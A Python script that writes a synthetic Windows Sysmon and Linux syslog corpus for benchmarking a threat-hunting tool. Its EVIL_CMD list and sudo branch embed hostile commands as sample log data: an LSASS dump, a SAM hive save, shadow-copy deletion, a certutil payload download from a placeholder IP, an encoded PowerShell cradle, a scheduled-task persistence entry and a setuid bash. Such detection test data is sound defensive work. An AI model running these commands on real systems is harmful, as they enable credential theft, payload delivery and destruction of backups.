#!/usr/bin/env python3
"""Generate a large NDJSON corpus of flat Windows events for `vigil hunt` throughput benchmarks.

Events are Sysmon and Security records in the flat shape NXLog/evtx-to-JSON tools write (EventID,
Channel, Computer and the EventData fields at the top level), with realistic values drawn from
pools, and about 1 in 500 carrying an attacker-like command line so detections happen.

    python3 bench/gen_corpus.py --events 1000000 --out bench/out/corpus.ndjson
    python3 bench/gen_corpus.py --format syslog --events 1000000 --out bench/out/corpus.log

`--format syslog` writes RFC 5424 lines from Linux hosts instead (sshd, sudo, cron, systemd,
kernel firewall), about 1 in 500 of them an attacker-like sudo or sshd line.

Deterministic for a given --seed.
"""
import argparse
import hashlib
import json
import random

SYSMON = "Microsoft-Windows-Sysmon/Operational"
HOSTS = [f"ws{n:04d}.corp.example" for n in range(400)] + [f"srv{n:03d}.corp.example" for n in range(40)]
USERS = [f"CORP\\user{n:04d}" for n in range(800)] + ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE"]
# Coherent benign process profiles: (image, command line, parent image, parent command line, integrity).
PROFILES = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', "Low"),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility',
     "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"', "Medium"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
     "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "Medium"),
    ("C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
     "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "Medium"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
     "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "Medium"),
    ("C:\\Windows\\System32\\SearchProtocolHost.exe", '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1',
     "C:\\Windows\\System32\\SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", "System"),
    ("C:\\Windows\\System32\\dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
     "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "Medium"),
    ("C:\\Program Files\\Notepad++\\notepad++.exe", '"C:\\Program Files\\Notepad++\\notepad++.exe" C:\\Users\\Public\\notes.txt',
     "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "Medium"),
]
IMAGES = [p[0] for p in PROFILES]
EVIL_CMD = [
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "cmd.exe /c whoami /all > C:\\Users\\Public\\o.txt", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    "certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe", "vssadmin.exe delete shadows /all /quiet",
    "reg.exe save HKLM\\SAM C:\\temp\\sam.save", "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon /ru SYSTEM",
]
DOMAINS = ["www.google.com", "login.microsoftonline.com", "outlook.office365.com", "cdn.example.net", "updates.example.org"]


def guid(r):
    return "{%08X-%04X-%04X-%04X-%012X}" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(16), r.getrandbits(16), r.getrandbits(48))


def image_hash(r, image):
    """The Sysmon Hashes value of `image`: a hash names a binary, so it is the same on every host, as
    in a real fleet (random per-event hashes gave 15 binaries 35k distinct values and overstated
    the index). The random draw the old value used is kept, so a seed's other values stay as they were."""
    r.getrandbits(256)
    return "SHA256=" + hashlib.sha256(image.encode()).hexdigest().upper()


def event(r, i, t0):
    ts = t0 + i * 0.003
    base = {
        "TimeCreated": "2024-05-%02dT%02d:%02d:%02d.%03dZ" % (1 + int(ts // 86400) % 28, int(ts // 3600) % 24, int(ts // 60) % 60, int(ts) % 60, int(ts * 1000) % 1000),
        "Computer": r.choice(HOSTS),
        "EventRecordID": i + 1,
    }
    kind = r.random()
    evil = r.random() < 0.002
    image = r.choice(IMAGES)
    if kind < 0.35:
        image_p, cmd, parent, parent_cmd, integrity = r.choice(PROFILES)
        if evil:
            cmd = r.choice(EVIL_CMD)
            exe = cmd.split()[0].strip('"')
            image_p = exe if "\\" in exe else "C:\\Windows\\System32\\" + exe
            parent, parent_cmd, integrity = "C:\\Windows\\System32\\cmd.exe", "cmd.exe", "High"
        base.update({"EventID": 1, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": image_p,
                     "CommandLine": cmd, "ParentImage": parent, "ParentCommandLine": parent_cmd, "User": r.choice(USERS),
                     "ProcessGuid": guid(r), "ProcessId": r.randint(100, 60000), "IntegrityLevel": integrity,
                     "Hashes": image_hash(r, image_p), "CurrentDirectory": "C:\\Windows\\system32\\",
                     "OriginalFileName": image_p.split("\\")[-1]})
    elif kind < 0.55:
        image = r.choice(IMAGES[:2])  # browsers make the network connections
        base.update({"EventID": 3, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": image, "User": r.choice(USERS), "Protocol": "tcp",
                     "Initiated": "true", "SourceIp": "10.1.%d.%d" % (r.randint(0, 255), r.randint(1, 254)), "SourcePort": r.randint(49152, 65535),
                     "DestinationIp": "%d.%d.%d.%d" % (r.choice([142, 151, 172, 104, 13, 20]), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)),
                     "DestinationPort": r.choice([443, 443, 443, 80]), "DestinationHostname": r.choice(DOMAINS)})
    elif kind < 0.70:
        base.update({"EventID": 7, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": image,
                     "ImageLoaded": "C:\\Windows\\System32\\" + r.choice(["ntdll.dll", "kernel32.dll", "user32.dll", "combase.dll", "wininet.dll"]),
                     "Signed": "true", "SignatureStatus": "Valid", "Signature": "Microsoft Windows"})
    elif kind < 0.80:
        base.update({"EventID": 13, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "EventType": "SetValue", "Image": image,
                     "TargetObject": "HKU\\S-1-5-21-1000\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\%d" % r.randint(0, 50),
                     "Details": "Binary Data"})
    elif kind < 0.88:
        base.update({"EventID": 11, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": image,
                     "TargetFilename": "C:\\Users\\user%04d\\AppData\\Local\\Temp\\tmp%05d.tmp" % (r.randint(0, 800), r.randint(0, 99999))})
    elif kind < 0.94:
        base.update({"EventID": 22, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": image, "QueryName": r.choice(DOMAINS),
                     "QueryStatus": "0", "QueryResults": "::ffff:142.250.74.100;"})
    else:
        eid = r.choice([4624, 4625, 4634, 4672])
        base.update({"EventID": eid, "Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing",
                     "TargetUserName": "user%04d" % r.randint(0, 800), "TargetDomainName": "CORP", "LogonType": r.choice([2, 3, 10]),
                     "IpAddress": "10.1.%d.%d" % (r.randint(0, 255), r.randint(1, 254)), "WorkstationName": "WS%04d" % r.randint(0, 400),
                     "AuthenticationPackageName": r.choice(["Kerberos", "NTLM", "Negotiate"]), "LogonProcessName": "User32"})
    return base


SYSLOG_APPS = ["sshd", "sshd", "sudo", "CRON", "systemd", "kernel"]


def syslog_line(r, i, t0):
    ts = t0 + i * 0.003
    stamp = "2024-05-%02dT%02d:%02d:%02d.%03dZ" % (1 + int(ts // 86400) % 28, int(ts // 3600) % 24, int(ts // 60) % 60, int(ts) % 60, int(ts * 1000) % 1000)
    host = "lx%04d.corp.example" % r.randint(0, 300)
    app = r.choice(SYSLOG_APPS)
    user = "user%04d" % r.randint(0, 800)
    ip = "10.2.%d.%d" % (r.randint(0, 255), r.randint(1, 254))
    evil = r.random() < 0.002
    if app == "sshd":
        pri = 86
        msg = r.choice([
            "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%016x" % (user, ip, r.randint(1024, 65535), r.getrandbits(64)),
            "Failed password for invalid user %s from %s port %d ssh2" % (user, ip, r.randint(1024, 65535)),
            "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, r.randint(1000, 5000)),
            "Received disconnect from %s port %d:11: disconnected by user" % (ip, r.randint(1024, 65535)),
        ])
        if evil:
            msg = "error: buffer overflow attempt from %s: Corrupted MAC on input" % ip
    elif app == "sudo":
        pri = 85
        msg = "%s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx" % (user, r.randint(0, 9), user)
        if evil:
            msg = "%s : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/chmod u+s /bin/bash" % user
    elif app == "CRON":
        pri = 78
        msg = "(%s) CMD (/usr/local/bin/backup.sh --incremental)" % user
    elif app == "systemd":
        pri = 30
        msg = r.choice(["Started Session %d of User %s." % (r.randint(1, 99999), user), "Starting Daily apt upgrade and clean activities..."])
    else:
        pri = 4
        msg = "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC=%s DST=10.0.0.5 LEN=60 PROTO=TCP SPT=%d DPT=22 WINDOW=64240 SYN" % (ip, r.randint(1024, 65535))
    return "<%d>1 %s %s %s %d - - %s" % (pri, stamp, host, app, r.randint(100, 65000), msg)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--out", required=True)
    ap.add_argument("--format", choices=["ndjson", "syslog"], default="ndjson")
    args = ap.parse_args()
    r = random.Random(args.seed)
    with open(args.out, "w", encoding="utf-8") as f:
        for i in range(args.events):
            if args.format == "syslog":
                f.write(syslog_line(r, i, 1714521600.0))
            else:
                f.write(json.dumps(event(r, i, 1714521600.0), separators=(",", ":")))
            f.write("\n")


if __name__ == "__main__":
    main()
